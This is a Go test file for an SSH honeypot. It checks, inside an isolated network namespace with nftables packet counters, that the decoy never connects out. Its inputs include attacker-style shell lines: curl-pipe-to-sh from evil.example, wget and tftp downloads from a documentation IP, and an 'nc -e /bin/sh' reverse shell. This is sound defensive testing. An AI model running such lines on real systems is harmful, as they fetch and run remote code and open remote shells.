package sshpot

import (
	"net"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/vallum/vallum/internal/sensor"
)

const egressChildEnv = "VALLUM_SSHPOT_EGRESS_CHILD"

// TestNoEgress runs the honeypot in a fresh network namespace whose only
// route sends everything to the loopback device, with an nftables counter
// on every packet leaving for an address that is not loopback. A client
// asks for everything that would make a careless decoy connect out
// (downloads, ping, ssh and nc from the shell, local and remote port
// forwards, a SOCKS-style direct-tcpip); the counter must stay at zero.
// Then the test connects out itself to show the counter would have seen it.
func TestNoEgress(t *testing.T) {
	if os.Getenv(egressChildEnv) == "1" {
		egressChild(t)
		return
	}
	if os.Geteuid() != 0 {
		t.Skip("needs root: creates a network namespace (unshare -n) and nftables rules in it")
	}
	for _, prog := range []string{"unshare", "ip", "nft"} {
		if _, err := exec.LookPath(prog); err != nil {
			t.Skipf("needs %s (not installed): %v", prog, err)
		}
	}
	cmd := exec.Command("unshare", "-n", os.Args[0], "-test.run", "^TestNoEgress$", "-test.v", "-test.count=1")
	cmd.Env = append(os.Environ(), egressChildEnv+"=1")
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "--- PASS: TestNoEgress") {
		t.Fatalf("in the namespace: %v\n%s", err, out)
	}
}

func runOrFail(t *testing.T, name string, args ...string) {
	t.Helper()
	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
	}
}

var packetsRE = regexp.MustCompile(`counter packets (\d+)`)

func egressPackets(t *testing.T) int {
	t.Helper()
	out, err := exec.Command("nft", "list", "table", "inet", "egress").CombinedOutput()
	if err != nil {
		t.Fatalf("nft list: %v\n%s", err, out)
	}
	n := 0
	for _, m := range packetsRE.FindAllStringSubmatch(string(out), -1) {
		v, _ := strconv.Atoi(m[1])
		n += v
	}
	return n
}

func egressChild(t *testing.T) {
	runOrFail(t, "ip", "link", "set", "lo", "up")
	runOrFail(t, "ip", "route", "add", "default", "dev", "lo")
	runOrFail(t, "nft", "add", "table", "inet", "egress")
	runOrFail(t, "nft", "add", "chain", "inet", "egress", "out", "{ type filter hook output priority 0; }")
	runOrFail(t, "nft", "add", "rule", "inet", "egress", "out", "ip", "daddr", "!=", "127.0.0.0/8", "counter")
	runOrFail(t, "nft", "add", "rule", "inet", "egress", "out", "ip6", "daddr", "!=", "::1", "counter")

	p := startPot(t, anyPolicy(), "")
	client := dialGo(t, p.addr, "root", "x")
	for _, line := range []string{
		"wget http://198.51.100.7/x.sh; curl -O http://198.51.100.7/y; curl http://evil.example/z | sh",
		"tftp -g -r m 198.51.100.7; ftpget 198.51.100.7 a b; ping -c 1 198.51.100.7",
		"ssh root@198.51.100.7; nc 198.51.100.7 4444 -e /bin/sh; scp x root@198.51.100.7:",
		"echo 'wget http://198.51.100.7/s' | sh; apt-get install nmap",
	} {
		sess, err := client.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		sess.CombinedOutput(line)
	}
	if c, err := client.Dial("tcp", "198.51.100.7:80"); err == nil {
		c.Close()
		t.Error("direct-tcpip accepted")
	}
	if _, err := client.Listen("tcp", "0.0.0.0:8080"); err == nil {
		t.Error("tcpip-forward accepted")
	}
	// A session with agent and X11 forwarding asked for.
	sess, _ := client.NewSession()
	sess.SendRequest("auth-agent-req@openssh.com", true, nil)
	sess.SendRequest("x11-req", true, ssh.Marshal(struct {
		Single        bool
		Proto, Cookie string
		Screen        uint32
	}{false, "MIT-MAGIC-COOKIE-1", "00", 0}))
	sess.Close()
	client.Close()
	p.events.wait(t, "every download and forward", func() bool {
		return len(p.events.all(sensor.KindRequest)) >= 6 && len(p.events.all(sensor.KindForward)) >= 4
	})
	time.Sleep(300 * time.Millisecond)
	if n := egressPackets(t); n != 0 {
		t.Fatalf("%d packets left for a non-loopback address while the honeypot ran", n)
	}
	// The control: a connection out is seen.
	net.DialTimeout("tcp", "198.51.100.7:80", 300*time.Millisecond)
	if n := egressPackets(t); n == 0 {
		t.Fatal("an outbound connection attempt was not counted: the check above proves nothing")
	}
}
